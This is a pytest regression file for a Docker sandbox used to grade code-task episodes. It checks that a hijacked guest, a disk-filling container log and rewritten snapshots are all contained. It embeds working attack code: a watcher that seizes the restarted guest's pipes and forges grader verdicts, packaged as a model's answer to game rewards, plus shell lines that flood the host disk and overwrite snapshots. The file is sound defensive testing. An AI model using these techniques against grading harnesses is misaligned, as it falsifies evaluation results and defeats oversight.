"""A hijacked guest and an unbounded container log, on Docker.

Hijacked: a command starts a detached watcher and kills the guest. The host used to restart
`python3 -I -u guest.pyz` in the same container, and in the milliseconds before the new guest
turned undumpable the watcher (same uid) opened its /proc/<pid>/fd/0 and fd/1 (the host's
request and reply pipes), stopped it and answered the host itself: forged harness verdicts
(the nonce arrives on that stdin), forged kills and restores, so every later python-code
episode scored 1.0 for an empty program. Now a guest never starts twice in one container:
the container is replaced (`DockerSandbox.replaced`), and the watcher goes with it.

The container log: a root agent writing to /proc/1/fd/1 filled the host's disk through Docker's
json-file log (632 MB in 9 s with disk_mb=64); every sandbox container now logs nothing.
"""

from __future__ import annotations

import os
from pathlib import Path

import pytest

from skyhub.sandbox import images
from skyhub.sandbox.docker import DockerSandbox

pytestmark = [pytest.mark.hostile, pytest.mark.docker]

TOKEN = "skyhub-test-watcher"

# Waits for a guest it has not seen (argv: the pids to ignore), opens the new guest's stdin
# and stdout, stops it and answers every request in its place: a pass for each test of a
# grading harness (its nonce and tests come on the request's stdin), "skyhub-probe" for the
# grader's probe, exit 0 for any other command, ok for everything else.
WATCHER = r"""
import base64, json, os, signal, struct, sys, time
# TOKEN
seen, me = {int(a) for a in sys.argv[1:]}, os.getpid()
open("/tmp/watching", "w").close()

def read(fd, n):
    data = b""
    while len(data) < n:
        chunk = os.read(fd, n - len(data))
        if not chunk:
            sys.exit(0)
        data += chunk
    return data

def forge(fin, fout, pid):
    while True:
        req = json.loads(read(fin, struct.unpack(">I", read(fin, 4))[0]))
        out = "FORGED\n"
        stdin = base64.b64decode(req.get("stdin") or "").decode("utf-8", "replace")
        if "skyhub-probe" in json.dumps(req.get("cmd")):
            out = "skyhub-probe\n"
        elif "\n" in stdin and '"tests"' in stdin:
            nonce, spec = stdin.split("\n", 1)
            lines = ["start"] + [f"{i} pass null" for i in range(len(json.loads(spec)["tests"]))]
            out = "".join(f"SKYHUB-GRADE {nonce} {line}\n" for line in lines + ["end"])
        reply = {"ok": True, "id": req.get("id"), "pid": pid, "uid": os.getuid(),
                 "exit_code": 0, "stdout": base64.b64encode(out.encode()).decode(),
                 "stderr": "", "timed_out": False, "duration_s": 0.0, "killed": 0,
                 "data": [""] * len(req.get("paths") or []) if "paths" in req else ""}
        body = json.dumps(reply).encode()
        os.write(fout, struct.pack(">I", len(body)) + body)

deadline = time.time() + 300
while time.time() < deadline:
    for p in os.listdir("/proc"):
        if not p.isdigit() or int(p) in seen or int(p) == me:
            continue
        try:
            cmd = open(f"/proc/{p}/cmdline", "rb").read()
        except OSError:
            continue
        if not cmd.endswith(b"skyhub/guest.pyz\0"):
            continue
        seen.add(int(p))
        try:
            fin = os.open(f"/proc/{p}/fd/0", os.O_RDONLY)
            fout = os.open(f"/proc/{p}/fd/1", os.O_WRONLY)
        except OSError:
            continue  # undumpable already
        os.kill(int(p), signal.SIGSTOP)
        open("/tmp/hijacked", "w").write(p)
        forge(fin, fout, int(p))
""".replace("TOKEN", TOKEN)


@pytest.fixture(scope="module")
def image(docker_daemon: None) -> str:
    return images.build(["default"], quiet=True)[0]


def test_a_watcher_never_answers_for_the_guest_after_it_is_killed(image: str) -> None:
    with DockerSandbox(image) as sb:
        guest = sb._chan.pid  # type: ignore[union-attr]
        r = sb.exec(["sh", "-c", 'setsid python3 -c "$0" "$1" </dev/null >/dev/null 2>&1 & '
                     'for i in $(seq 300); do [ -e /tmp/watching ] && exit 0; sleep 0.05; '
                     'done; exit 1', WATCHER, str(guest)])
        assert r.ok, r  # the watcher runs and waits
        r = sb.exec(["kill", "-9", str(guest)])
        assert r.exit_code == 137 and "fresh container" in r.stderr, r
        for code in (3, 4, 5):  # e.g. a verifier's verdicts: the real ones, every time
            r = sb.exec(["sh", "-c", f"echo real; exit {code}"])
            assert (r.exit_code, r.stdout) == (code, "real\n"), r
        assert sb.replaced == 1
        assert sb.exec(["pgrep", "-f", TOKEN]).exit_code == 1  # gone with its container
        assert sb.exec("ls /tmp").stdout == ""  # no /tmp/hijacked: it never got in


ATTACK = '''
import os, subprocess, sys, time
WATCHER = {watcher!r}
guests = []
for p in os.listdir("/proc"):
    try:
        cmd = open(f"/proc/{{p}}/cmdline", "rb").read() if p.isdigit() else b""
        if cmd.endswith(b"skyhub/guest.pyz\\0"):
            guests.append(p)
    except OSError:
        pass
subprocess.Popen([sys.executable, "-c", WATCHER, *guests], start_new_session=True,
                 stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
for _ in range(400):
    if os.path.exists("/tmp/watching"):
        break
    time.sleep(0.05)
for g in guests:
    os.kill(int(g), 9)

def digit_root(n):
    return 0
'''


def answer(program: str) -> str:
    return f"<answer>\n```python\n{program}```\n</answer>"


def test_python_code_scores_an_empty_program_zero_after_a_hijack_attempt(image: str) -> None:
    """The issue's run: after the attack every later episode scored 1.0 for an empty
    program (3 runs of 3). The grading sandbox is reused across episodes: it must be one
    the watcher is not in."""
    from skyhub.envs.python.code_env import CodeEnv

    if not images.is_built(images.image_tag("python")):
        images.build(["python"], quiet=True)
    task = {"task_id": "skyhub-code/digit_root"}
    with CodeEnv(backend="docker", warm_reset=False) as env:
        env.reset(options=task)
        _, reward, done, _, info = env.step(answer(ATTACK.format(watcher=WATCHER)))
        assert done and reward == 0.0 and info.get("sandbox_broken") is True, info
        grader = env._grader[0]  # type: ignore[index]
        for _ in range(2):
            env.reset(options=task)
            _, reward, _, _, info = env.step(answer("pass\n"))
            assert reward == 0.0 and not info["infra_error"], info
        env.reset(options=task)  # and the oracle still passes there
        _, reward, _, _, info = env.step(env.reference_action() or "")
        assert reward == 1.0, info
        assert grader.replaced >= 1  # type: ignore[attr-defined]


# -------------------------------------------------------------------------- container logs
def test_what_pid_1_is_sent_never_reaches_the_hosts_disk(image: str) -> None:
    with DockerSandbox(image, user="0", disk_mb=64) as sb:  # root: may open /proc/1/fd/1
        r = sb.exec("head -c 200000000 /dev/zero > /proc/1/fd/1 && "
                    "head -c 1000000 /dev/zero > /proc/1/fd/2 && echo sent", timeout=300)
        assert (r.exit_code, r.stdout) == (0, "sent\n"), r
        sb.container.reload()
        attrs = sb.container.attrs
        assert attrs["HostConfig"]["LogConfig"]["Type"] == "none"
        log_path = attrs.get("LogPath") or ""
        assert not log_path or not os.path.exists(log_path) or \
            os.path.getsize(log_path) < 1 << 20
        kept = Path("/var/lib/docker/containers") / sb.container.id
        if kept.is_dir():  # this host's daemon: everything it keeps for the container
            assert sum(f.stat().st_size for f in kept.rglob("*") if f.is_file()) < 1 << 20


# --------------------------------------------- the state a replaced container comes back to
def test_a_root_agent_cannot_rewrite_the_snapshots_a_new_container_gets(docker_daemon: None
                                                                        ) -> None:
    """A root-run image: the snapshots inside the container are the agent's to rewrite, and
    a container replaced (after a killed guest, or by a restore) gets them back: the host
    keeps its own copy for such sandboxes."""
    with DockerSandbox("debian:bookworm-slim") as sb:
        sb.write_file("clean.txt", "clean")
        snap = sb.snapshot()
        r = sb.exec("mkdir -p /tmp/p && echo x > /tmp/p/planted.txt && "
                    "for f in /opt/skyhub/snapshots/*.tar; do tar -C /tmp/p -cf \"$f\" .; done")
        assert r.ok, r
        sb.restore(snap)
        assert sb.exec("ls /work").stdout == "clean.txt\n"
